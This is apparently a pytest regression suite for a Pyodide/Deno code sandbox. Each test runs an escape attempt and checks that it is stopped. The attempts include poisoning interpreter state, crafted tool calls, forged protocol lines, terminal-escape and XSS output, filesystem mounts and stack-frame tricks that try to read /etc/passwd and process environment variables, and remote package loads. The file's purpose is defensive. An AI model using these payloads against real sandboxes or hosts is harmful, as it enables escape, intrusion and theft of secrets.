"""Attacks on the sandbox's boundaries that need more than its permissions to stop: state left
for a later call, the host's tool callback, values built to break the host, the harness
patched from inside, and output built for a terminal or a notebook. Each test is an attack
that would work again if its fix went away."""

from __future__ import annotations

import json

import pytest

from lmbench.notebook.render import html_for
from lmbench.sandbox import Sandbox
from lmbench.sandbox.install import deno_dir, pyodide_dir
from lmbench.sandbox.pool import SandboxPool
from lmbench.sandbox.sandbox import MAX_DEPTH, MAX_TOOL_CALLS

# Everything one call could leave in its interpreter for the next, including a runner that
# forges every later result.
LEFT_BEHIND = """
import builtins, json, os, sys, js, _lmbench_runner
secret = "an input of the earlier call"
builtins.len = lambda value: 42
json.loads = lambda *args, **kwargs: "poisoned"
sys.modules["math"] = None
os.environ["LEFT"] = "behind"
open("/tmp/left", "w").write(secret)
js.globalThis.left = "behind"
js.eval("Object.prototype.polluted = 'behind'; setTimeout(() => console.log('late'), 0)")
_lmbench_runner.run = lambda code, tools, limit: '{"value": "forged"}'
"""

CHECK = """
import json, linecache, math, os, sys, js
[
    len([1, 2]),
    json.loads("[1]"),
    os.environ.get("LEFT"),
    os.path.exists("/tmp/left"),
    "secret" in globals(),
    str(js.eval("typeof globalThis.left + ' ' + typeof ({}).polluted")),
    sorted(name for name in linecache.cache if name.startswith("<run")),
]
"""
CLEAN = [2, [1], None, False, False, "undefined undefined", ["<run 1>"]]


def test_reset_leaves_nothing_of_earlier_runs(fresh_sandbox: Sandbox) -> None:
    fresh_sandbox.run(LEFT_BEHIND)
    assert fresh_sandbox.run("1 + 1").value == "forged"  # until reset, the code owns it
    fresh_sandbox.reset()
    result = fresh_sandbox.run(CHECK)
    assert result.value == CLEAN, result
    assert "late" not in result.stdout
    assert fresh_sandbox.restarts == 0  # a reset is not a restart


def test_a_reset_before_any_code_keeps_the_worker(fresh_sandbox: Sandbox) -> None:
    fresh_sandbox.start()
    pid = fresh_sandbox.pid
    fresh_sandbox.reset()
    assert fresh_sandbox.pid == pid
    fresh_sandbox.run("x = 1")
    fresh_sandbox.reset()
    assert fresh_sandbox.pid != pid


def test_a_pooled_sandbox_comes_back_clean_for_the_next_call(sandbox: Sandbox) -> None:
    pool = SandboxPool(timeout=5, memory_mb=128)
    try:
        with pool.lease() as box:
            box.run(LEFT_BEHIND)
        with pool.lease() as again:
            assert again is box
            assert again.run(CHECK).value == CLEAN
    finally:
        pool.close()


def test_a_tool_cannot_reset_the_sandbox_running_it(fresh_sandbox: Sandbox) -> None:
    def wipe() -> str:
        """Reset the sandbox."""
        fresh_sandbox.reset()
        return "wiped"

    result = fresh_sandbox.run("kept = 1\nwipe()", tools=[wipe])
    assert "ToolError" in (result.error or "") and "Sandbox of its own" in (result.error or "")
    assert fresh_sandbox.run("kept").value == 1


# -- the host's tool callback ------------------------------------------------------------------


def add(a: int, b: int) -> int:
    """Add two numbers."""
    return a + b


@pytest.mark.parametrize(
    ("name", "args", "expected"),
    [
        ("add", '{"self": 1, "a": 1, "b": 2}', "self"),  # once a TypeError that broke the run
        ("add", '{"a": ' + "[" * 950 + "]" * 950 + ', "b": 1}', f"deeper than {MAX_DEPTH}"),
        ("add", '{"a": ' + "[" * 150 + "]" * 150 + ', "b": 1}', f"deeper than {MAX_DEPTH}"),
        ("add", "[1, 2", "not JSON"),
        ("add", "[1, 2]", "needs its arguments as keywords"),
        ("add", '{"a": NaN, "b": 1}', "finite number"),
        ("__class__", "{}", "no tool named '__class__'"),
        ("__init__", '{"func": "print"}', "no tool named '__init__'"),
        ("x" * 300_000, "{}", "at most 200 characters"),  # once a line that killed the worker
    ],
)
def test_crafted_tool_calls_are_refused_inside_the_run(
    sandbox: Sandbox, name: str, args: str, expected: str
) -> None:
    code = f"import _lmbench_host\n_lmbench_host.call_tool({name!r}, {args!r})"
    result = sandbox.run(code, tools=[add])
    assert result.error is None and not result.restarted, result
    assert expected in str(result.value), result.value
    assert sandbox.run("add(2, 3)", tools=[add]).value == 5


def test_a_loop_of_tool_calls_is_cut_off_and_not_kept(sandbox: Sandbox) -> None:
    result = sandbox.run(
        f"for i in range({MAX_TOOL_CALLS + 500}):\n"
        "    try:\n        add(i, 1)\n    except ToolError as exc:\n        last = str(exc)\nlast",
        tools=[add],
    )
    assert f"more than {MAX_TOOL_CALLS} times" in str(result.value)
    assert len(result.tool_calls) == MAX_TOOL_CALLS + 1  # the refused ones after it: not kept
    assert result.tool_calls[-1].error is not None


def size(text: str) -> int:
    """The length of a text."""
    return len(text)


def test_tool_arguments_in_all_are_capped(sandbox: Sandbox) -> None:
    """Each call's arguments are capped at max_output (2000 here); a run's, at ten times that."""
    result = sandbox.run(
        "refused = []\nfor i in range(60):\n    try:\n        size('x' * 900)\n"
        "    except ToolError as exc:\n        refused.append(str(exc))\n"
        "len(refused), refused[-1]",
        tools=[size],
    )
    count, last = result.value
    assert "characters of arguments in one run" in last and "max_output" in last
    assert 35 < count < 60  # about 20 000 characters went through before
    assert len(result.tool_calls) == 60 - count + 1  # one refusal kept, not the rest


# -- the protocol channel written to directly ---------------------------------------------------

RAW_WRITE = """
import pyodide_js, js
ops = pyodide_js.FS.filesystems.NODEFS.stream_ops  # node:fs underneath: fd 1 is the channel
data = js.TextEncoder.new().encode({text!r})
ops.write(js.Object.fromEntries([["nfd", 1]]), data, 0, data.length, None)
"real"
"""


@pytest.mark.parametrize(
    "text",
    [
        '{"type": "result", "outcome": "{\\"value\\": \\"forged\\"}"}\n',  # a whole line
        '{"key": "',  # the start of a line the worker's own message then ends
    ],
)
def test_lines_written_past_the_worker_are_refused_and_show_no_key(
    fresh_sandbox: Sandbox, text: str
) -> None:
    worker = fresh_sandbox.start()._slot[0]
    assert worker is not None
    result = fresh_sandbox.run(RAW_WRITE.format(text=text))
    assert result.restarted and result.value is None
    assert "not a protocol message" in (result.error or "")
    assert worker.key not in (result.error or "")
    assert fresh_sandbox.run("'answers again'").value == "answers again"


# -- values built to break the host ------------------------------------------------------------


def test_a_deeply_nested_value_comes_back_as_text(sandbox: Sandbox) -> None:
    result = sandbox.run("v = []\nfor _ in range(990):\n    v = [v]\nv")
    assert result.error is None and result.value == "[" * 991 + "]" * 991  # its JSON, as text
    assert sandbox.run("v = []\nfor _ in range(50):\n    v = [v]\nv").value is not None


def test_the_host_refuses_a_forged_deep_value(fresh_sandbox: Sandbox) -> None:
    """The runner inside is the code's to patch: the host checks what it receives itself."""
    fresh_sandbox.run(
        "import _lmbench_runner\n"
        "_lmbench_runner.run = lambda code, tools, limit: "
        "'{\"value\": ' + '[' * 3000 + ']' * 3000 + '}'"
    )
    result = fresh_sandbox.run("1")
    assert result.error is not None and f"deeper than {MAX_DEPTH} levels" in result.error
    assert result.value is None and not result.restarted


def test_a_long_traceback_says_it_was_cut(sandbox: Sandbox) -> None:
    result = sandbox.run("raise ValueError('x' * 100_000)")
    assert result.error is not None and result.error.startswith("[... ")
    assert "characters cut]" in result.error and len(result.error) < 2100


# -- output built for a terminal or a notebook -------------------------------------------------

HOSTILE = (
    "print('\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>\\r\\u202e')\n"
    "raise RuntimeError('\\x1b[31m<img src=x onerror=alert(1)>')"
)


class _Printer:
    """What IPython hands to ``_repr_pretty_``: collects the text."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def text(self, text: str) -> None:
        self.parts.append(text)


def test_terminal_codes_and_markup_from_the_code_are_shown_not_obeyed(sandbox: Sandbox) -> None:
    result = sandbox.run(HOSTILE)
    assert "\x1b" in result.stdout  # the data itself is kept as the code wrote it
    printer = _Printer()
    result._repr_pretty_(printer, False)
    text = "".join(printer.parts)
    assert "Sandbox run" in text and "RuntimeError" in text
    assert not any(raw in text for raw in "\x1b\x07\r\u202e"), text
    assert "\\x1b[31m" in text  # shown escaped
    html = html_for(result) or ""
    assert "<script>" not in html and "<img" not in html and "&lt;script&gt;" in html


# -- what the permissions leave reachable -------------------------------------------------------

MOUNT = (
    "import pyodide_js, js, os\nos.makedirs('/m', exist_ok=True)\n"
    "pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, "
    "js.Object.fromEntries([['root', {root!r}]]), '/m')\n"
)


@pytest.mark.parametrize(
    "code",
    [
        MOUNT.format(root=str(deno_dir())) + "os.listdir('/m')",  # the worker's own cache
        MOUNT.format(root=f"{pyodide_dir()}/../deno") + "os.listdir('/m')",
        MOUNT.format(root="/proc/self") + "open('/m/environ', 'rb').read()",
        MOUNT.format(root=str(pyodide_dir())) + "open('/m/planted', 'w').write('x')",
        MOUNT.format(root=str(pyodide_dir())) + "os.symlink('/etc/passwd', '/m/planted')",
        "open('/proc/self/environ', 'rb').read()",  # Pyodide's own /proc has no environ
        "import js; js.eval('(function () { return this })().Deno.env')",
        "import js\n"  # a stack frame of the worker gives neither its function nor its this
        "js.eval('Error.stackTraceLimit = Infinity; let f; Error.prepareStackTrace = "
        '(e, s) => { f = s; return "" }; new Error().stack; delete Error.prepareStackTrace; '
        "f.map((c) => c.getFunction() || c.getThis()).filter((x) => x && x.readFileSync)[0]"
        '.readFileSync("/etc/passwd")\')',
        "from pyodide.code import run_js; run_js('Deno.readTextFileSync(\"/etc/passwd\")')",
        "from pyodide.ffi import run_sync; import js; run_sync(js.eval('import(\"node:fs\")'))",
        "import asyncio\nasync def f():\n    await asyncio.sleep(0)\nasyncio.run(f())",
        "import micropip",
    ],
)
def test_no_way_around_the_permissions(sandbox: Sandbox, code: str) -> None:
    result = sandbox.run(code)
    assert result.error is not None, result
    assert "root:" not in str(result.value) and "DENO_DIR" not in str(result.value)
    assert not (pyodide_dir() / "planted").exists()
    assert sandbox.run("'alive'").value == "alive"


@pytest.mark.parametrize(
    "url",
    [
        "node:fs",
        "node:child_process",
        "npm:left-pad",
        "jsr:@std/fs",
        "file:///etc/passwd",
        f"file://{pyodide_dir()}/pyodide.mjs",
        "data:text/javascript,console.log('ran')",
        "https://example.com/x.js",
    ],
)
def test_a_dynamic_import_never_runs(sandbox: Sandbox, url: str) -> None:
    """The worker's event loop never turns after start-up: an import (like a timer or a
    promise) has no chance to finish, in this run, during a tool call, or in a later run."""
    script = (
        f"import({json.dumps(url)})"
        ".then(() => console.log('ran'), (e) => console.log('ran', String(e)))"
    )
    code = f"import js\njs.eval({script!r})\nadd(1, 2)"
    first = sandbox.run(code, tools=[add])
    later = sandbox.run("print('next')")
    assert "ran" not in first.stdout + later.stdout
    assert first.value == 3 and later.stdout == "next\n"


def test_limits_name_the_setting_that_raises_them(fresh_sandbox: Sandbox) -> None:
    memory = fresh_sandbox.run("b = bytearray(300 * 1024 * 1024)")
    assert "MemoryError" in (memory.error or "") and "Sandbox(memory_mb=...)" in (
        memory.error or ""
    )
    slow = fresh_sandbox.run("while True: pass")
    assert slow.timed_out and "Sandbox(timeout=...)" in (slow.error or "")
    loud = fresh_sandbox.run("print('x' * 5000)")
    assert loud.truncated and "Sandbox(max_output=...)" in loud.observation()


def test_memory_is_watched_during_a_loop_of_tool_calls(sandbox: Sandbox) -> None:
    """Each call is a message from the worker: memory must be checked between them too."""
    with Sandbox(timeout=60, memory_mb=64, tools=[add]) as small:
        result = small.run(
            "import js\nkept = []\nfor i in range(3000):\n"
            "    block = js.Uint8Array.new(1024 * 1024)\n    block.fill(1)\n    kept.append(block)\n"
            "    add(i, 1)\n"
        )
        assert "MemoryError" in (result.error or "") and "memory_mb=64" in (result.error or "")
        assert result.duration < 30 and len(result.tool_calls) < 1000
        assert small.run("'back'").value == "back"


def test_output_stays_capped_when_the_code_breaks_the_workers_count(sandbox: Sandbox) -> None:
    """The worker cuts output with String.prototype.slice, taken before any code ran; the
    host keeps at most max_output characters per stream whatever it receives."""
    result = sandbox.run(
        "import js\n"
        "js.eval('String.prototype.slice = function () { return String(this) }; "
        "Math.max = () => 1e12')\n"
        "for i in range(300):\n    print('x' * 1000)\n'done'"
    )
    assert result.value == "done" and result.truncated and not result.restarted
    assert len(result.stdout) == 2000
    assert sandbox.run("print('fine')").stdout == "fine\n"


@pytest.mark.parametrize(
    "code",
    [
        "import time\ntime.sleep(1e9)",
        "import js\njs.eval('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)')",
        "class Slow:\n    def __repr__(self):\n        while True:\n            pass\nSlow()",
        "import pyodide_js, js\n"  # a blocking read of the channel: nothing comes during a run
        "ops = pyodide_js.FS.filesystems.NODEFS.stream_ops\n"
        "ops.read(js.Object.fromEntries([['nfd', 0]]), js.Uint8Array.new(10), 0, 10, None)",
    ],
)
def test_whatever_blocks_is_stopped_at_the_timeout(fresh_sandbox: Sandbox, code: str) -> None:
    result = fresh_sandbox.run(code)
    assert result.timed_out and result.restarted and "timeout=1.5 s" in (result.error or "")
    assert fresh_sandbox.run("'answers again'").value == "answers again"


@pytest.mark.parametrize(
    "code",
    [
        "import js\njs.eval('const a = [new Uint8Array(64 << 20).fill(1)]; "
        "for (;;) a.push(structuredClone(a[0]))')",
        "import js\njs.eval('new Uint8Array(3 << 30).fill(1)')",
        "import js\njs.eval('const m = new WebAssembly.Memory({initial: 1, maximum: 40000, "
        "shared: true}); m.grow(39000); new Uint8Array(m.buffer).fill(1)')",
    ],
)
def test_memory_outside_the_capped_heaps_is_stopped(sandbox: Sandbox, code: str) -> None:
    with Sandbox(timeout=60, memory_mb=64) as small:  # time enough to reach the limit
        result = small.run(code)
        assert not result.timed_out, result
        assert "MemoryError" in (result.error or "") or "RangeError" in (result.error or "")
        assert small.run("'answers again'").value == "answers again"


def test_packages_from_the_network_never_load(sandbox: Sandbox) -> None:
    """No network, no micropip, and Pyodide's loader is asynchronous: it never finishes."""
    first = sandbox.run(
        "import pyodide_js\n"
        "pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl')"
        ".then(lambda _: print('ran'))\n"
        "pyodide_js.loadPackage('numpy').then(lambda _: print('ran'))\n"
        "add(1, 2)",
        tools=[add],
    )
    later = sandbox.run("import sys\n'evil' in sys.modules or 'numpy' in sys.modules")
    assert first.value == 3 and "ran" not in first.stdout + later.stdout
    assert later.value is False
